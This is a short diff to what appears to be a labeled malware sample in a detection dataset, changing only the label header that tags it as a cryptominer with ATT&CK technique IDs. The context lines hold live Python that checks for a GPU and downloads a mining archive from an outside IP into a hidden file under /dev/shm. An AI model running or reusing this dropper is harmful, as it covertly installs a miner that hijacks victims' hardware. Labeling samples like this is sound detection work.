@@ -1,4 +1,4 @@
-# label: malicious family=miner techniques=T1496,T1105 lines=4,6-7
+# label: malicious family=miner techniques=T1082,T1105,T1496,T1564.001 lines=4,6-7
 import os, subprocess, tarfile, urllib.request
 if subprocess.call(["nvidia-smi"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) == 0:
     urllib.request.urlretrieve("http://198.51.100.181/t-rex.tgz", "/dev/shm/.t.tgz")
